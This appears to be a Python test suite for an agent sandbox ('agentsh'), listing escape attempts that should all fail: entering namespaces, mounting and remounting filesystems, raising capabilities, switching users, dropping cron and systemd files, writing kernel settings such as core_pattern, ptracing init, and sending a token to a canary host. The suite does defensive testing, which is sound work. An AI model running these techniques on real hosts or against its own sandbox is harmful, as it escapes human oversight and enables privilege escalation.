"""Section E: namespaces, privileges, and what another program of the host would run for us."""

import os
import pathlib
import pwd
import subprocess
import sys

import escape
import harness
from escape import Row

def libc_call(call):
    return f"""
if libc.{call} < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
escaped({call!r})
"""


class Namespaces(escape.EscapeTest):
    rows = [
        Row("E1-user", "a user namespace, for its capabilities", libc_call("unshare(CLONE_NEWUSER)"), delivers=False),
        Row("E1-clone", "the same by clone", """
pid = syscall(56, CLONE_NEWUSER | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)
os.waitpid(pid, 0); escaped("clone")
""", delivers=False),
        Row("E1-clone3", "the same by clone3, whose arguments a filter cannot see", """
arguments = ctypes.create_string_buffer(struct.pack("=11Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)
pid = syscall(435, ctypes.addressof(arguments), 88)
if pid == 0: os._exit(0)
os.waitpid(pid, 0); escaped("clone3")
""", delivers=False),
        Row("E1-each", "every namespace by itself, and all at once", """
kinds = (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80)
for flags in kinds + (sum(kinds),):
    pid = os.fork()
    if pid == 0:
        if libc.unshare(flags) == 0: escaped(hex(flags))
        os._exit(0)
    os.waitpid(pid, 0)
""", delivers=False),
        Row("E1-nft", "the firewall with the capabilities of a user namespace",
            ("unshare", "-Urn", "sh", "-c", "/usr/sbin/nft add table inet escape && echo ESCAPED"), delivers=False),
        Row("E1-tool", "bubblewrap's way: user, mount and network namespaces",
            ("unshare", "-Urmn", "--propagation", "private", "sh", "-c", "mount -t tmpfs none /mnt && echo ESCAPED"),
            delivers=False),
        Row("E2-net", "a network namespace without the redirect", """
if libc.unshare(CLONE_NEWNET) < 0: raise OSError(ctypes.get_errno(), "unshare")
escaped("a network namespace")
""", delivers=False),
        Row("E2-connect", "connecting from a network namespace of its own, then from the old one by its descriptor", """
old = os.open("/proc/self/ns/net", os.O_RDONLY)
libc.unshare(CLONE_NEWNET); libc.setns(old, CLONE_NEWNET)
s = socket.create_connection((CANARY4, PORT)); s.sendall(TOKEN)
""", denied=escape.CANARY4),
        Row("E3-setns", "the namespaces of a process outside, by their files", """
for pid in (OUTSIDER, 1):
    for kind in ("net", "mnt", "user", "pid", "cgroup"):
        try: fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError: continue
        if libc.setns(fd, 0) == 0: escaped(pid, kind)
""", delivers=False),
        Row("E3-pidfd", "the namespaces of a process outside, by its pidfd", """
for pid in (OUTSIDER, 1):
    try: handle = syscall(434, pid, 0)
    except OSError: continue
    if libc.setns(handle, CLONE_NEWNET) == 0: escaped(pid)
""", delivers=False),
        Row("E3-socket", "a namespace's descriptor from a socket", """
import fcntl
s = socket.socket()
fd = fcntl.ioctl(s, 0x894C)  # SIOCGSKNS
if libc.setns(fd, CLONE_NEWNET) == 0: escaped("setns")
""", delivers=False),
        Row("E5-cgroup", "a control group tree of its own to write in", """
libc.unshare(CLONE_NEWNS | CLONE_NEWCGROUP)
libc.mount(b"none", b"/", None, 0x4000 | 1 << 18, None)
if libc.mount(b"none", b"/mnt", b"cgroup2", 0, None) == 0: escaped("mount")
""", delivers=False),
        Row("E5-fsopen", "the same by the new mount calls", """
fd = syscall(430, b"cgroup2", 0); syscall(431, fd, 6, 0, 0, 0); escaped("fsopen")
""", delivers=False),
        Row("E5-mount", "mounts of every kind", """
libc.unshare(CLONE_NEWNS); libc.mount(b"none", b"/", None, 0x4000 | 1 << 18, None)
for source, kind, flags in ((b"none", b"tmpfs", 0), (b"none", b"proc", 0), (b"none", b"sysfs", 0), (b"/", b"", 4096)):
    if libc.mount(source, b"/mnt", kind, flags, None) == 0: escaped(kind)
try: syscall(428, -100, b"/", 1); escaped("open_tree")
except OSError: pass
if libc.umount2(b"/mnt", 2) == 0: escaped("umount")
""", delivers=False),
        Row("E5-remount", "what is read-only made writable", """
libc.unshare(CLONE_NEWNS); libc.mount(b"none", b"/", None, 0x4000 | 1 << 18, None)
for place in (b"/", b"/proc", b"/sys", b"/etc"):
    if libc.mount(b"none", place, None, 32 | 4096, None) == 0: escaped(place)
""", delivers=False),
        Row("E5-root", "another root", """
libc.unshare(CLONE_NEWNS)
if libc.chroot(b"/tmp") == 0: escaped("chroot")
""", delivers=False),
    ]


class Privileges(escape.EscapeTest):
    rows = [
        Row("E6-sets", "capabilities left in any of the five sets, no_new_privs not set, a filter missing", """
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
left = {k: v for k, v in status.items() if k.startswith("Cap") and int(v, 16)}
if left or status["NoNewPrivs"] != "1" or status["Seccomp"] != "2": escaped(left, status["NoNewPrivs"], status["Seccomp"])
""", delivers=False),
        Row("E6-init", "the same of the session's first process", """
status = dict(line.split(":\\t", 1) for line in open("/proc/1/status").read().splitlines() if ":\\t" in line)
left = {k: v for k, v in status.items() if k.startswith("Cap") and int(v, 16)}
if left or status["NoNewPrivs"] != "1" or status["Seccomp"] != "2": escaped(left, status["NoNewPrivs"], status["Seccomp"])
""", delivers=False),
        Row("E6-raise", "capabilities raised by capset, ambient sets and secure bits", """
net_raw = 1 << 13
header = ctypes.create_string_buffer(struct.pack("=Ii", 0x20080522, 0), 8)
data = ctypes.create_string_buffer(struct.pack("=6I", net_raw, net_raw, net_raw, 0, 0, 0), 24)
if libc.capset(header, data) == 0: escaped("capset")
if libc.prctl(47, 2, 13, 0, 0) == 0: escaped("ambient")
""", delivers=False),
        Row("E6-exec", "capabilities regained by executing as uid 0, or by a program with the setuid bit",
            ("sh", "-c", "for p in 'cat' '/usr/bin/setpriv --reuid 0 cat' '/usr/bin/setpriv --inh-caps +net_raw cat'; do "
             "$p /proc/self/status 2>/dev/null | grep -q '^CapEff:.*[1-9a-f]' && echo ESCAPED $p; done; exit 0"),
            delivers=False),
        Row("E6-uid", "another user", """
for uid in (1, 2, 65533):
    pid = os.fork()
    if pid == 0:
        try: os.setresuid(uid, uid, uid); escaped("uid", uid)
        except OSError: pass
        os._exit(0)
    os.waitpid(pid, 0)
""", delivers=False),
        Row("E7-setgroups", "other groups", """
try: os.setgroups([0, 4, 42]); escaped("setgroups")
except OSError: pass
try: os.setresgid(42, 42, 42); escaped("setresgid")
except OSError: pass
""", delivers=False),
        Row("E11-personality", "a personality without address randomisation, or with everything executable", """
for value in (0x0040000, 0x0400000, 0x0200000, 0x0100000, 0x0040000 | 0x20000):
    if libc.personality(value) != -1: escaped(hex(value))
libc.personality(0)
""", delivers=False),
        Row("E9-pickup", "a file that cron or systemd would pick up", """
for name in ("/etc/cron.d/escape", "/var/spool/cron/crontabs/root", "/var/spool/cron/escape", "/etc/systemd/system/escape.service",
             "/etc/crontab.escape", "/etc/init.d/escape", "/etc/profile.d/escape.sh", "/usr/local/bin/escape"):
    if os.environ.get("AGENTSH_IN_SESSION") != "1" and not name.startswith(("/etc/cron.d", "/var/spool/cron", "/etc/systemd")):
        continue  # Outside only where the test has put a file system of its own.
    try:
        with open(name, "w") as f: f.write("* * * * * root true\\n")
        escaped(name)
    except OSError: pass
""", delivers=False),
        Row("E9-bus", "the system's message bus, cron's and at's spools, by socket", """
import glob, stat
reached = []
names = [UNIX_PATH]  # Outside only the one that the test made.
if os.environ.get("AGENTSH_IN_SESSION") == "1":
    for pattern in ("/run/*", "/run/*/*", "/var/run/*/*", "/tmp/*/*", "/var/lib/*/*", "/srv/*"): names += glob.glob(pattern)
for name in names:
    try:
        if not stat.S_ISSOCK(os.stat(name).st_mode): continue
        s = socket.socket(AF_UNIX); s.connect(name); reached.append(name); s.close()
    except OSError: pass
if reached: escaped(reached)
""", delivers=False),
        Row("E10-memory", "a process outside: signals, limits, priorities, memory", """
import resource, signal
for pid in victims() - {1}:
    if pid == os.getpid(): continue
    outside = not os.path.exists(f"/proc/{pid}") or os.environ.get("AGENTSH_IN_SESSION") != "1"
    for name, action in (("signal", lambda: os.kill(pid, 0)), ("limit", lambda: resource.prlimit(pid, resource.RLIMIT_CORE)),
                         ("priority", lambda: os.setpriority(os.PRIO_PROCESS, pid, 0)),
                         ("affinity", lambda: os.sched_setaffinity(pid, os.sched_getaffinity(pid)))):
        try: action(); escaped(name, pid) if outside else None
        except OSError: pass
for pid in (1,):
    if os.environ.get("AGENTSH_IN_SESSION") == "1":
        try: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)); escaped("limits of init")
        except OSError: pass
        if libc.ptrace(0x4206, pid, None, None) == 0: escaped("ptrace of init")
        for name in ("mem", "environ", "maps", "cwd/etc", "root/etc", "fd/3"):
            try: os.close(os.open(f"/proc/1/{name}", os.O_RDONLY)); escaped(name) if not name.startswith(("cwd", "root")) else None
            except OSError: pass
""", delivers=False),
        Row("D26-proc", "the kernel's settings that make it run something", """
for name in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
             "/proc/sys/kernel/hostname", "/proc/sys/fs/binfmt_misc/register", "/proc/1/oom_score_adj"):
    try: os.close(os.open(name, os.O_WRONLY)); escaped(name)
    except OSError: pass
""", delivers=False),
        Row("A7-keys", "the kernel's keyrings, which know no namespace", """
try: syscall(248, b"user", b"escape", b"x", 1, -2); escaped("add_key")
except OSError: pass
""", delivers=False),
    ]

    def test_E7_groups_of_the_caller(self):
        """E7: supplementary groups of the client's process do not come along"""
        extra = "4042"
        outside = subprocess.run(["setpriv", "--groups", extra, "id", "-G"], stdout=subprocess.PIPE, check=True)
        self.assertIn(extra, outside.stdout.decode().split())
        user = self.appliance.user or pwd.getpwnam("root")
        command = ["setpriv", "--reuid", str(user.pw_uid), "--regid", str(user.pw_gid), "--groups", extra,
                   str(harness.Arguments.bin / "agentsh"), "exec", self.sid, "--", "id", "-G"]
        result = subprocess.run(command, env=self.appliance.environment(), cwd=self.tools, stdin=subprocess.DEVNULL,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=self.limit)
        self.assertEqual(result.returncode, 0, self.text(result))
        self.assertNotIn(extra, result.stdout.decode().split())

    def test_E9_nothing_was_left(self):
        """E9: nothing of the session lies where other programs of the host would look"""
        self.inside(["sh", "-c", "for d in /etc/cron.d /var/spool/cron /etc/systemd/system; do touch $d/from-inside; done"])
        for path in self.internet.pickup:
            self.assertFalse((path / "from-inside").exists(), path)


class AsUser(Privileges):
    """E10: the same for a user who is not root, under root's daemon."""

    rows = []

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        user = escape.nobody()
        os.chmod(cls.appliance.home, 0o755)
        for path in (cls.appliance.home / "run", cls.appliance.socket):
            os.chmod(path, 0o777)
        for path in [cls.tools, *cls.tools.iterdir()]:
            os.chown(path, user.pw_uid, user.pw_gid)
        cls.appliance.user = user
        cls.appliance.cli("session", "destroy", cls.sid)
        result = cls.appliance.cli("session", "create", "--workspace", cls.tools)
        assert result.returncode == 0, result.stderr
        cls.sid = result.stdout.decode().strip()

    def test_E10_identity(self):
        """E10: commands run as the caller"""
        self.assertEqual(self.inside(["id", "-u"]).stdout.decode().strip(), str(escape.nobody().pw_uid))


if __name__ == "__main__":
    if "--user" in sys.argv:
        del AsUser  # An ordinary user's daemon has sessions of that user only: the classes above.
    escape.main()
